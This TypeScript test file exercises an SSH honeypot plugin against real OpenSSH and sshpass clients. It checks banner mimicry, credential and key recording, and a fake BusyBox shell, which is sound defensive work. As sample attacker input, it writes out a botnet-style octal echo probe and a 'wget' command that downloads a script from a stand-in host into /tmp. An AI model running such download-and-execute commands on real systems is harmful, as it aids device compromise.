/**
 * The ssh plugin against the real OpenSSH client (openssh-client) and sshpass on
 * 127.0.0.1: the OpenSSH banner, host keys generated once into the data dir, passwords
 * and public keys recorded and rejected; with acceptAfter, the fake shell behind exec
 * and an interactive pty session; then abuse on raw sockets.
 */
import { execFileSync } from "node:child_process"
import { mkdtempSync, readFileSync, rmSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { eventually, tcp } from "../support/converse.js"
import { freeTcpPort } from "../support/free-port.js"
import { requirePeer } from "../support/peers.js"
import { startSensor } from "../support/sensor.js"
import type { RunningSensor } from "../support/sensor.js"
import { receivedFacts, runClient } from "./client.js"

const peer = requirePeer({ name: "ssh plugin vs OpenSSH and sshpass", binaries: ["ssh", "sshpass", "ssh-keygen", "ssh-keyscan"], debPackages: ["openssh-client", "sshpass"] })

let sensor: RunningSensor
let closed = 0 // rejects everything
let open = 0 // acceptAfter: 2
let dir = ""

const sshOptions = (port: number) => ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=10", "-p", String(port)]
const sshpass = (password: string, port: number, target: string, ...rest: Array<string>) =>
  runClient(peer.path("sshpass"), ["-p", password, peer.path("ssh"), ...sshOptions(port), "-o", "PubkeyAuthentication=no", target, ...rest])

describe.skipIf(!peer.available)("ssh plugin vs OpenSSH and sshpass (real clients)", () => {
  beforeAll(async () => {
    closed = await freeTcpPort()
    open = await freeTcpPort()
    dir = mkdtempSync(join(tmpdir(), "hh-ssh-"))
    sensor = await startSensor(
      [
        { name: "ssh", port: closed, publicPort: 22, transport: "tcp", plugin: "ssh" },
        { name: "ssh-open", port: open, publicPort: 2222, transport: "tcp", plugin: "ssh", options: { acceptAfter: 2, hostname: "gw" } }
      ],
      { sensor: { limits: { maxSessions: 100, maxSessionsPerSource: 50, idleTimeout: "3s", payloadCap: 4096, sessionCap: 65536, udp: { replyRatio: 2, repliesPerSecond: 20, sessionIdle: "30s", maxSessions: 100 } } } }
    )
    // the listeners bind once `prepare` has generated the host keys (RSA 3072 takes a moment)
    for (const port of [closed, open]) {
      const probe = await eventually(() => tcp(port).catch(() => undefined), 30_000, `ssh listener on ${port}`)
      await probe.until("SSH-2.0-")
      probe.close()
    }
    await eventually(async () => ((await sensor.ofType("ContactClosed")).length >= 2 ? true : undefined))
  })
  afterAll(async () => {
    await sensor.stop()
    rmSync(dir, { recursive: true, force: true })
  })

  it("looks like Debian's OpenSSH, records the password and rejects it", async () => {
    const r = await sshpass("secret", closed, "user@127.0.0.1", "-v", "true")
    expect(r.code).not.toBe(0)
    expect(r.stderr).toContain("remote software version OpenSSH_9.2p1 Debian-2+deb12u3")
    expect(r.stderr).toMatch(/Authentications that can continue: publickey,password/)
    const creds = await eventually(async () => (await sensor.ofType("CredentialsTried")).find((c) => c.service === "ssh"))
    expect(creds).toMatchObject({ username: "user", password: "secret", method: "password", detail: { attempt: 1, accepted: false } })
    const version = receivedFacts(await sensor.events()).find((f) => f["clientVersion"] !== undefined)
    expect(version?.["clientVersion"]).toMatch(/^SSH-2\.0-OpenSSH_/)
    expect(version?.["software"]).toMatch(/^OpenSSH_/)
  })

  it("records an offered public key with its type and fingerprint; host keys live in the data dir and stay put", async () => {
    const key = join(dir, "id_ed25519")
    execFileSync(peer.path("ssh-keygen"), ["-q", "-t", "ed25519", "-N", "", "-C", "bot", "-f", key])
    const expected = execFileSync(peer.path("ssh-keygen"), ["-l", "-f", `${key}.pub`]).toString().split(" ")[1]
    const r = await runClient(peer.path("ssh"), [...sshOptions(closed), "-o", "BatchMode=yes", "-o", "PreferredAuthentications=publickey", "-o", "IdentitiesOnly=yes", "-i", key, "scanner@127.0.0.1", "true"])
    expect(r.stderr).toContain("Permission denied (publickey,password)")
    const creds = await eventually(async () => (await sensor.ofType("CredentialsTried")).find((c) => c.method === "publickey"))
    expect(creds).toMatchObject({ username: "scanner", password: null, detail: { keyType: "ssh-ed25519", fingerprint: expected } })

    const hostKeyDir = join(sensor.dataDir, "sensor", "ssh")
    // async: a sync child would block the event loop the in-process sensor runs on
    const scanned = (await runClient(peer.path("ssh-keyscan"), ["-p", String(closed), "-t", "ed25519", "127.0.0.1"])).stdout
    const stored = readFileSync(join(hostKeyDir, "ssh_host_ed25519_key.pub"), "utf8").split(" ")[1]
    expect(scanned).toContain(`ssh-ed25519 ${stored}`)
    const rsa = (await runClient(peer.path("ssh-keyscan"), ["-p", String(open), "-t", "rsa", "127.0.0.1"])).stdout
    expect(rsa).toContain(`ssh-rsa ${readFileSync(join(hostKeyDir, "ssh_host_rsa_key.pub"), "utf8").split(" ")[1]}`)
  })

  it("with acceptAfter 2: the first password fails, the second gets the fake shell; exec output and commands recorded", async () => {
    const first = await sshpass("wrong", open, "root@127.0.0.1", "uname -a")
    expect(first.code).not.toBe(0)
    const r = await sshpass("admin123", open, "root@127.0.0.1", "uname -a; /bin/busybox ECCHI")
    expect(r.stdout).toBe("Linux gw 3.10.14 #1 SMP PREEMPT Tue Mar 12 16:41:02 CST 2019 armv7l GNU/Linux\nECCHI: applet not found\n")
    const creds = (await sensor.ofType("CredentialsTried")).filter((c) => c.service === "ssh-open")
    expect(creds.map((c) => [c.username, c.password, c.detail])).toEqual([
      ["root", "wrong", { attempt: 1, accepted: false }],
      ["root", "admin123", { attempt: 2, accepted: true }]
    ])
    const exec = await eventually(async () => receivedFacts(await sensor.events()).find((f) => f["channel"] === "exec"))
    expect(exec).toEqual({ commands: ["uname -a; /bin/busybox ECCHI"], urls: [], hosts: [], channel: "exec" })
  })

  it("an interactive pty session: prompt, echo, the seed's probe decoded, commands and URLs recorded", async () => {
    const script = "echo -e '\\147\\141\\171\\146\\147\\164'\nwget http://203.0.113.9/x.sh -O /tmp/x.sh\nexit\n"
    const r = await runClient(peer.path("sshpass"), ["-p", "any", peer.path("ssh"), ...sshOptions(open), "-o", "PubkeyAuthentication=no", "-tt", "admin@127.0.0.1"], { input: script })
    expect(r.stdout).toContain("BusyBox v1.31.1 built-in shell (ash)")
    expect(r.stdout).toContain("\r\ngayfgt\r\n$ ")
    expect(r.stdout).toContain("saving to '/tmp/x.sh'")
    const facts = receivedFacts(await sensor.events())
    expect(facts).toContainEqual(expect.objectContaining({ request: "pty" }))
    expect(facts).toContainEqual({ commands: ["wget http://203.0.113.9/x.sh -O /tmp/x.sh"], urls: ["http://203.0.113.9/x.sh"], hosts: ["203.0.113.9"], channel: "shell" })
  })

  it("robustness: garbage, an oversize identification line and a silent socket are closed; the listener keeps serving", async () => {
    const garbage = await tcp(closed)
    garbage.send(Buffer.from([0, 1, 2, 3, 0xff, 0xfe, 0x0d, 0x0a, 0x41, 0x0d, 0x0a]))
    garbage.send("GET / HTTP/1.1\r\n\r\n")
    await garbage.closed
    const oversize = await tcp(closed)
    oversize.send("SSH-2.0-" + "A".repeat(300_000))
    await oversize.closed
    const silent = await tcp(closed)
    await silent.until("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
    await silent.closed // idle timeout: 3 s here
    const r = await sshpass("again", closed, "user@127.0.0.1", "true")
    expect(r.code).not.toBe(0)
    await eventually(async () => (await sensor.ofType("CredentialsTried")).find((c) => c.password === "again"))
    const reasons = (await sensor.ofType("ContactClosed")).map((c) => c.reason)
    expect(reasons).toContain("idle")
    expect(reasons).not.toContain("plugin-error")
  })
})
